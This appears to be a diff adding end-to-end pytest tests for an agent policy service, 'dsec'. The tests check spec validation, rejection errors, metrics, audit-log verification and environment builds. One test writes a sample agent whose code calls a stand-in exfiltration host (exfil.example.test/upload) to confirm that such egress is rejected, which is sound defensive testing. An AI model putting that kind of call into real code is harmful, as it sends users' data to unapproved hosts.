@@ -1,0 +1,127 @@
+"""End to end with the policy service as its own process: a user submits specs with `dsec
+submit`, the service validates or rejects them, its /metrics count it, and the log verifies."""
+
+from __future__ import annotations
+
+import time
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+pytestmark = [pytest.mark.e2e]
+
+ROOT = Path(__file__).parents[1]
+
+
+def _metrics_when(url: str, wanted: tuple[str, ...], timeout: float = 10.0) -> str:
+    """Scrape /metrics until every wanted sample is there (the service counts right after the
+    event the user saw was acknowledged), or the deadline passes."""
+    deadline = time.monotonic() + timeout
+    while True:
+        text = urllib.request.urlopen(url + "/metrics", timeout=5).read().decode()
+        if all(w in text for w in wanted) or time.monotonic() > deadline:
+            return text
+        time.sleep(0.05)
+
+
+@pytest.fixture
+def env(stack_env: dict[str, str], tmp_path: Path) -> dict[str, str]:
+    return {**stack_env, "DSEC_HOME": str(tmp_path / "cli")}
+
+
+def test_valid_spec_with_code_is_validated_with_its_plan(services, env, dsec_cli) -> None:
+    services.start("policy")
+    example = ROOT / "examples" / "websearch-agent"
+    result = dsec_cli("submit", str(example / "dsec.yaml"), "--code", str(example),
+                      "--wait", "validated", "--json", env=env)
+    outcome = result.last_json()
+    assert result.exit_code == 0, result.output
+    assert outcome["state"] == "validated"
+    validated = outcome["events"][-1]
+    assert validated["type"] == "spec.validated"
+    plan = validated["payload"]["plan"]
+    assert plan["name"] == "websearch-agent"
+    hosts = [r.get("domain") for r in plan["egress"]]
+    assert "api.websearch.test" in hosts
+    assert [s["env_var"] for s in plan["secrets"]] == ["WEB_SEARCH_KEY"]
+
+    wanted = (
+        'dsec_events_consumed_total{service="policy",type="spec.submitted"} 1.0',
+        'dsec_events_published_total{service="policy",type="spec.validated"} 1.0',
+        'dsec_handler_seconds_count{service="policy",type="spec.submitted"} 1.0',
+    )
+    text = _metrics_when(services.url("policy"), wanted)
+    assert all(w in text for w in wanted), text
+    health = urllib.request.urlopen(services.url("policy") + "/healthz", timeout=5).read()
+    assert b'"status": "ok"' in health
+
+
+def test_bad_spec_is_rejected_with_every_located_error(services, env, dsec_cli) -> None:
+    services.start("policy")
+    bad = ROOT / "examples" / "bad-spec" / "dsec.yaml"
+    result = dsec_cli("submit", str(bad), "--wait", "validated", "--json", env=env)
+    outcome = result.last_json()
+    assert result.exit_code == 1
+    assert outcome["state"] == "rejected"
+    errors = outcome["events"][-1]["payload"]["errors"]
+    assert len(errors) == 6
+    assert all(e["file"] == "dsec.yaml" and e["line"] > 0 for e in errors)
+    human = dsec_cli("submit", str(bad), "--wait", "validated", env=env)
+    assert "dsec.yaml:21:7: unknown field 'tll'" in human.output or "tll" in human.output
+
+
+def test_code_that_needs_an_ungranted_host_is_rejected(services, env, dsec_cli, tmp_path):
+    services.start("policy")
+    code = tmp_path / "agent"
+    code.mkdir()
+    (code / "agent.py").write_text(
+        "import requests\nrequests.get('https://exfil.example.test/upload')\n")
+    spec = tmp_path / "dsec.yaml"
+    spec.write_text("version: '1.2'\nname: sneaky\nbase: python:3.11\n")
+    result = dsec_cli("submit", str(spec), "--code", str(code), "--wait", "validated",
+                      "--json", env=env)
+    assert result.exit_code == 1
+    messages = " ".join(e["message"] for e in result.last_json()["events"][-1]["payload"]["errors"])
+    assert "exfil.example.test" in messages
+
+
+def test_audit_trail_verifies_after_the_services_ran(services, env, dsec_cli) -> None:
+    services.start("policy")
+    spec = ROOT / "examples" / "bad-spec" / "dsec.yaml"
+    dsec_cli("submit", str(spec), "--wait", "validated", env=env)
+    verified = dsec_cli("audit", "verify", "--json", env=env)
+    assert verified.exit_code == 0, verified.output
+    producers = verified.last_json()["producers"]
+    assert "policy" in producers
+    assert any(p.startswith("cli-") for p in producers)
+
+
+@pytest.mark.slow
+def test_valid_spec_reaches_env_built_and_identical_lock_is_reused(services, env, dsec_cli):
+    services.start("policy", "builder")
+    example = ROOT / "examples" / "websearch-agent"
+    args = ("submit", str(example / "dsec.yaml"), "--code", str(example), "--wait", "built",
+            "--stall", "120", "--json")
+    first = dsec_cli(*args, env=env)
+    assert first.exit_code == 0, first.output
+    built = first.last_json()["events"][-1]["payload"]
+    assert first.last_json()["state"] == "built"
+    assert Path(built["location"]).is_dir()
+    second = dsec_cli(*args, env=env).last_json()["events"][-1]["payload"]
+    assert second["reused"] is True
+    assert second["lock_hash"] == built["lock_hash"]
+    assert second["fingerprint"] == built["fingerprint"]
+
+
+@pytest.mark.slow
+def test_brief_spec_is_blocked_with_an_alternative(services, env, dsec_cli) -> None:
+    services.start("policy", "builder")
+    result = dsec_cli("submit", str(ROOT / "examples" / "brief" / "dsec.yaml"), "--wait",
+                      "built", "--stall", "120", "--json", env=env)
+    outcome = result.last_json()
+    assert result.exit_code == 1, result.output
+    assert outcome["state"] == "conflict"
+    conflict = outcome["events"][-1]["payload"]
+    assert "vllm" in conflict["explanation"] and "transformers" in conflict["explanation"]
+    assert any(a["verified"] for a in conflict["alternatives"])
